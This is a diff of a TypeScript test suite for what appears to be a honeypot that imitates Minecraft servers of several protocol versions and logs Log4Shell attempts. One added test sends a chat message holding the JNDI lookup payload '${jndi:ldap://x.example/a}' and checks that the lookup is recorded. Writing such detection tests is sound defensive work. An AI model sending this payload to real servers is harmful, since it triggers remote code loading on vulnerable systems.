@@ -89,8 +89,21 @@ describe('the applications', () => {
   })
 })
 
-const handshake = (next: number, address = 'play.example'): Buffer =>
-  packet(0, varInt(757), string(address), Buffer.from([0x63, 0xdd]), varInt(next))
+const handshake = (next: number, address = 'play.example', protocol = 757): Buffer =>
+  packet(0, varInt(protocol), string(address), Buffer.from([0x63, 0xdd]), varInt(next))
+
+function packetsOf(bytes: Buffer): { id: number; rest: Buffer }[] {
+  const packets = []
+  for (let left = bytes; left.length > 0; ) {
+    const reader = new PacketReader(left)
+    const length = reader.varInt()
+    const body = reader.rest().subarray(0, length)
+    const fields = new PacketReader(body)
+    packets.push({ id: fields.varInt(), rest: fields.rest() })
+    left = reader.rest().subarray(length)
+  }
+  return packets
+}
 
 describe('the Minecraft server', () => {
   it('answers the server list as a 1.18', async () => {
@@ -116,6 +129,24 @@ describe('the Minecraft server', () => {
     expect(lookups()).toEqual([['message', 'ldap', 'x.example']])
     expect(p.data('log4shell.chat')).toMatchObject([{ name: 'Steve' }])
     socket.destroy()
+  })
+
+  it.each([
+    [47, [0x02, 0x01, 0x08, 0x02, 0x02]],
+    [340, [0x02, 0x23, 0x2f, 0x0f, 0x0f]],
+    [757, [0x02, 0x26, 0x38, 0x0f, 0x0f]],
+    // The world of other releases is not spoken: who logs in may chat all the same.
+    [754, [0x02]],
+  ])('shows protocol %d its world, and says in the chat what was said', async (protocol, ids) => {
+    const p = await start()
+    const said = packet(protocol === 47 ? 1 : protocol === 757 ? 3 : 2, string('${jndi:ldap://x.example/a}'))
+    const bytes = await p.exchange(Buffer.concat([handshake(2, 'play.example', protocol), packet(0, string('Steve')), said]), {
+      port: p.port(GAME),
+    })
+    expect(packetsOf(bytes).map(({ id }) => id)).toEqual(ids)
+    if (ids.length > 1)
+      expect(packetsOf(bytes).at(-1)?.rest.toString('latin1')).toContain('"chat.type.text","with":[{"text":"Steve"},"${jndi:')
+    expect(lookups()).toEqual([['message', 'ldap', 'x.example']])
   })
 
   it('finds a lookup in the address, in the name, and in HTTP that comes to its port', async () => {
